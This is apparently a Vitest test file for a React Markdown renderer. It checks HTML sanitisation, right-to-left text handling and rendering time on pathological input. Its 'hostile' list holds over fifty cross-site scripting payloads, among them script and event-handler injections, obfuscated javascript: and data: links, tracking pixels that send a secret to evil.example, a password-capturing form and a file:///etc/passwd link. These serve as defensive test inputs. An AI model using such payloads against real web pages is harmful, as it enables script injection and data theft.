import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { expectQuick } from "@/testing/event-loop";
import { aiBoardLimits } from "../domain/constants";
import { MarkdownText } from "./markdown-text";

const draw = (text: string) => renderToStaticMarkup(<MarkdownText text={text} />);

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "a <script>alert(1)</script> b",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.example/p.png">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<iframe src="https://evil.example"></iframe>',
  "<iframe srcdoc='<script>alert(1)</script>'>",
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<form action="https://evil.example"><input name=password></form>',
  '<a href="javascript:alert(1)">press</a>',
  '<a onclick="alert(1)">press</a>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  "<style>@import url(https://evil.example/x.css)</style>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video src="https://evil.example/x.mp4" autoplay></video>',
  '<audio src="https://evil.example/x.mp3">',
  "<math><mtext><script>alert(1)</script></mtext></math>",
  "<template><script>alert(1)</script></template>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "[press](javascript:alert(1))",
  "[press](JaVaScRiPt:alert(1))",
  "[press](java\tscript:alert(1))",
  "[press](&#106;avascript:alert(1))",
  "[press](javascript&colon;alert(1))",
  "[press](\u0001javascript:alert(1))",
  "[press](vbscript:msgbox(1))",
  "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[press](data:text/html,<script>alert(1)</script>)",
  "[press](file:///etc/passwd)",
  "[press](blob:https://evil.example/1)",
  "[press](//evil.example/x)",
  "[press](/api/auth/logout)",
  "[press](../api/cards/delete)",
  "[press](https://bank.example@evil.example/)",
  "[press](ms-settings:privacy)",
  "<javascript:alert(1)>",
  "![pixel](https://evil.example/p.png?secret)",
  "![pixel](//evil.example/p.png)",
  "![pixel](data:image/svg+xml;base64,PHN2Zz4=)",
  "![pixel][ref]\n\n[ref]: https://evil.example/p.png",
  "[![pixel](https://evil.example/p.png)](javascript:alert(1))",
  "[press][ref]\n\n[ref]: javascript:alert(1)",
  '[press](https://good.example "x\\" onmouseover=\\"alert(1)")',
  "> - # <script>alert(1)</script> [press](javascript:alert(1)) ![p](https://evil.example/p.png)",
  "**<b onmouseover=alert(1)>bold</b>** `<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "| <script>alert(1)</script> | [press](javascript:alert(1)) |\n|---|:-:|\n| ![p](https://evil.example/p.png) | <b onmouseover=alert(1)> |",
] as const;

test(`${hostile.length} hostile texts are known, at least fifty`, () => {
  expect(new Set(hostile).size).toBeGreaterThanOrEqual(50);
});

test.each(hostile)("nothing dangerous is left of %j", (text) => {
  const html = draw(text);
  const tags = [...html.matchAll(/<\/?([a-z0-9]+)/gi)].map(([, name]) => name);
  const harmless = ["div", "p", "span", "a", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "br", "hr"];
  harmless.push("table", "thead", "tbody", "tr", "th", "td");
  expect(tags.filter((name) => !harmless.includes(name ?? ""))).toEqual([]);
  const attributes = [...html.matchAll(/<[a-z0-9]+((?:\s+[a-z-]+="[^"]*")*)\s*\/?>/gi)].flatMap(([, list = ""]) =>
    [...list.matchAll(/([a-z-]+)="([^"]*)"/gi)].map(([, name = "", value = ""]) => [name.toLowerCase(), value]),
  );
  const known = ["class", "dir", "lang", "href", "rel", "target", "referrerpolicy", "title", "start", "tabindex"];
  expect(attributes.filter(([name]) => !known.includes(name ?? ""))).toEqual([]);
  const links = attributes.filter(([name]) => name === "href").map(([, value]) => value);
  expect(links.filter((address) => !/^(https?:\/\/|mailto:)/.test(address ?? ""))).toEqual([]);
  expect(html).not.toMatch(/(src|srcset|poster|background|action)=/i);
});

test("a picture is its description, and a link that leads nowhere good is its words", () => {
  expect(draw("![A herd](https://evil.example/p.png)")).toContain("<span>A herd</span>");
  expect(draw("[press](javascript:alert(1))")).toContain("<span>press</span>");
});

test("links to the web and to mail open elsewhere and tell nobody where from", () => {
  const html = draw("[Site](https://example.mn/a?b=1) and <mailto:herd@example.mn>");
  expect(html).toContain('href="https://example.mn/a?b=1"');
  expect(html).toContain('href="mailto:herd@example.mn"');
  expect(html.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(2);
});

test("list items that stand one a line are a list, and Markdown stays what it is", () => {
  expect(draw("Herders\r\nTheir families")).toContain('<li dir="auto">Herders</li>');
  expect(draw("- Herders\n- Families").match(/<li dir="auto">/g)).toHaveLength(2);
  expect(draw("One.\n\nTwo.").match(/<p dir="auto">/g)).toHaveLength(2);
  expect(draw("# Малчид\n\n**Хүн**")).toContain("<strong>Хүн</strong>");
});

test("a table is a table, whose cells lean by the direction of their own text", () => {
  const html = draw("| Step | Cost |\n|---|--:|\n| مسح | 1,200 |");
  expect(html).toMatch(/<th dir="auto">Step<\/th>/);
  expect(html).toMatch(/<td dir="auto">مسح<\/td>/);
  expect(html).not.toContain("style=");
});

test("each paragraph and each line goes by its own first letter, and code from left to right", () => {
  const html = draw("English.\n\nمرحبا world.\n\n```\nx = 1\n```");
  expect(html.match(/<p dir="auto">/g)).toHaveLength(2);
  expect(html).toContain('<pre dir="ltr">');
});

test("lists, quotations and tables of an Arabic answer begin on the right", () => {
  const html = draw("- مسح\n- خريطة\n\n> قال\n\n| خطوة |\n|---|\n| مسح |");
  expect(html).toMatch(/^<div[^>]* dir="rtl"/);
  expect(html).toContain("<blockquote>");
  expect(draw("- A map\n- مسح")).toMatch(/^<div[^>]* dir="ltr"/);
});

const max = aiBoardLimits.content;
const begun = [
  ...["> ", ">", "\n>", "[", "[]", "![", "[a](", "[a][", "[a]: b\n", "*", "**a", "_a", "*a_", "a*", "*_", "* * "],
  ...[
    "`",
    "`a``",
    "~",
    "- ",
    "- \n",
    "- a\n ",
    "1. ",
    "|",
    "|a",
    "a|b\n-|-\n",
    "a|b\n-|-\n\n",
    "# ",
    "#\n\n",
    "<",
    "<a ",
  ],
  ...["<!--", "&#", "\\\\", "]", "()", "\t", `${" ".repeat(9)}a\n`, "a\n\n", "> \n\n", "[a]\n\n"],
];

function drawMany(part: string, length: number): void {
  expect(draw(part.repeat(length / part.length))).toContain(part.match(/[a-z]/)?.[0] ?? "");
}

test.each(begun)("of a long answer of %j the words are there", (part) => drawMany(part, max / 20));

test.each(begun)(
  "a whole answer of %j is drawn in bounded time, and its words are there",
  { tags: ["full"] },
  async (part) => {
    await expectQuick(700, [() => drawMany(part, max)]);
  },
);

test("lists within lists, line by line, are drawn in bounded time", { tags: ["full"] }, async () => {
  const lines = Array.from({ length: 190 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n");
  await expectQuick(700, [() => draw(lines)]);
});

test("a long answer with tables, lists, quotes and code is Markdown all the same", () => {
  const part =
    "## Part\n\n**One** and `two`, see [three](https://a.mn).\n\n- a\n  - b\n    1. c\n\n> > quoted\n\n| a | b |\n|---|---|\n| *1* | 2 |\n\n";
  const html = draw(part.repeat(80));
  expect(html.match(/<table>/g)).toHaveLength(80);
});
